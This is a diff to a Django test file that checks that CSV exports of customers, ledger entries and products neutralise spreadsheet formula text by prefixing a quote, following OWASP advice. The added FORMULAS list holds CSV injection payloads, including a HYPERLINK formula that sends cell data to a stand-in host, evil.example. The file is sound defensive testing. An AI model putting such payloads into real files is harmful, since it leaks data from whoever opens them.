@@ -8,9 +8,9 @@ from decimal import Decimal
 import pytest
 from django.utils import timezone
 
-from orders import listing
-from orders.models import LedgerEntry, Payment
-from orders.tests.factories import make_admin, make_customer, make_product, place
+from orders import listing, services
+from orders.models import Customer, LedgerEntry, Payment, Product
+from orders.tests.factories import key, make_admin, make_customer, make_product, place
 
 pytestmark = pytest.mark.django_db
 
@@ -149,9 +149,29 @@ def test_exported_values_are_plain(admin_client):
     product = make_product(tiers=((1, "2.00"), (10, "1.50")))
     (header, row), = [csv_rows(admin_client.get("/customers/", {"export": "csv"}))]
     assert header == ["Username", "Name", "Mobile", "Level", "Balance", "Status"]
-    assert row == [customer.user.username, customer.name, customer.mobile, customer.level.name, "12.50", "active"]
+    # A mobile starts with "+": text, so it is written behind a quote like any text a spreadsheet would run.
+    assert row == [customer.user.username, customer.name, f"'{customer.mobile}", customer.level.name, "12.50", "active"]
     products = csv_rows(admin_client.get("/products/", {"export": "csv"}))
     assert products[1] == [product.name, "from 1: CNY 2.00; from 10: CNY 1.50", "active"]
     ledger = csv_rows(admin_client.get("/transactions/", {"export": "csv"}))
     local = timezone.localtime(LedgerEntry.objects.get().created_at).strftime("%Y-%m-%d %H:%M:%S")
     assert ledger[1][0] == local and ledger[1][3] == "Top-up" and ledger[1][4] == "12.50" and ledger[1][6] == ""
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+2", "-foo", "@SUM(A1:A9)", "\tcmd", "\rcmd"]
+
+
+def test_formula_text_is_neutralised_and_numbers_stay_numbers(admin_client):
+    """OWASP's CSV injection advice: text a spreadsheet would run starts with a quote."""
+    customer = make_customer("100.00")
+    Customer.objects.filter(pk=customer.pk).update(name="=1+1")
+    for memo in FORMULAS:
+        services.balance_top_up(customer=customer, amount=Decimal("1.00"), memo=memo, idempotency_key=key(), actor=None)
+    services.balance_deduct(customer=customer, amount=Decimal("12.50"), memo="-12.50", idempotency_key=key(), actor=None)
+    ledger = csv_rows(admin_client.get("/transactions/", {"sort": "created_at", "export": "csv"}))
+    assert [row[7] for row in ledger[1:]] == ["", *("'" + memo for memo in FORMULAS), "'-12.50"]
+    assert {row[2] for row in ledger[1:]} == {"'=1+1"}
+    assert ledger[-1][4:6] == ["-12.50", "93.50"]
+    product = make_product()
+    Product.objects.filter(pk=product.pk).update(name="@cmd")
+    assert csv_rows(admin_client.get("/products/", {"export": "csv"}))[1][0] == "'@cmd"
